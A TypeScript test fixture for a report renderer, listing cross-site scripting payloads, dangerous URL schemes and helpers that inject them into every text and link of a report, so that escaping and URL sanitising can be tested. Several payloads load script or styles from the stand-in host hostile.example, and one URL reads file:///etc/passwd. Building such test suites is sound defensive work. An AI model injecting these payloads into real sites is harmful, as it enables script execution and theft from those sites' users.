/** For this room's tests: texts and addresses that would run, load or restyle something if a page printed them raw. */
import type { ComposedReport } from '#model/composed-report.ts';

/** Each calls `alert` or loads from hostile.example where it works. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</p><script src="https://hostile.example/a.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '" onerror="alert(1)',
  '" onload="alert(1)" x="',
  '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
  '" autofocus tabindex="0" onfocus="alert(1)',
  "' onclick='alert(1)",
  '` onclick=`alert(1)',
  ' onclick=alert(1) ',
  '"/onclick=alert(1)//',
  '\u0000" onclick="alert(1)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://hostile.example/a.swf">',
  '<base href="https://hostile.example/">',
  '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
  '<link rel="stylesheet" href="https://hostile.example/a.css">',
  '<style>*{display:none}</style>',
  '<style>@import "https://hostile.example/a.css";</style>',
  '"} body{display:none} .x{content:"',
  '\\"}*{background:url(https://hostile.example/a)}',
  '</style><style>main{display:none}',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table background="https://hostile.example/a"><td>',
  '<textarea><script>alert(1)</script>',
  '<plaintext>',
  '<xmp><script>alert(1)</script></xmp>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u2028<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<div hidden data-furniture>',
  '</main></body></html><script>alert(1)</script>',
];

/** Addresses that lead nowhere: they must not become one. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'j\ra\nv\tascript:alert(1)',
  'javascript\t:alert(1)',
  'javascript:alert(1)//https://example.org',
  'javascript://example.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://hostile.example/1',
  'about:blank',
  'filesystem:https://hostile.example/a',
  'view-source:https://hostile.example/',
  'ms-settings:privacy',
  'intent://hostile#Intent;scheme=https;end',
  '//hostile.example/a',
  '/\\hostile.example/a',
  '\\\\hostile.example\\share',
  '\t//hostile.example/a',
  '/\t/hostile.example/a',
  ' \u0000//hostile.example/a',
];

/** Addresses that must stay links; what stands in them must not leave its attribute. */
export const HONEST_URLS: readonly string[] = [
  'https://example.org/?q="><script>alert(1)</script>',
  'https://example.org/?a=1&b=2#c',
  "https://example.org/' onclick='alert(1)",
  'http://example.org/a b',
  'mailto:office@example.org?subject=1&body=2',
  'annex/a:b.html',
  '?javascript:alert(1)',
  './javascript:alert(1)',
  'https://例子.测试/路径',
];

/** Names that the pipeline itself gives: an author has no hand in them. */
const OWN = new Set(
  'kind anchor target id place align mediaType role profile stage asset titleAnchor date marks url ordinal assets figures source'.split(
    ' ',
  ),
);

/** The same report with every text in it, from the title to a table's cell, replaced by `hostile`. */
export function everyTextBecomes(report: ComposedReport, hostile: string): ComposedReport {
  const replace = (value: unknown, key: string): unknown => {
    if (OWN.has(key)) return value;
    if (typeof value === 'string') return hostile;
    if (Array.isArray(value)) return value.map((each) => replace(each, key));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replace(each, name)]));
  };
  return replace(report, '') as ComposedReport;
}

/** The same report with every outer link leading to `url`. */
export function everyLinkLeadsTo(report: ComposedReport, url: string): ComposedReport {
  const replace = (value: unknown, key: string): unknown => {
    if (key === 'url' && !String(value).startsWith('#')) return url;
    if (Array.isArray(value)) return value.map((each) => replace(each, key));
    if (value === null || typeof value !== 'object' || key === 'assets') return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replace(each, name)]));
  };
  return replace(report, '') as ComposedReport;
}
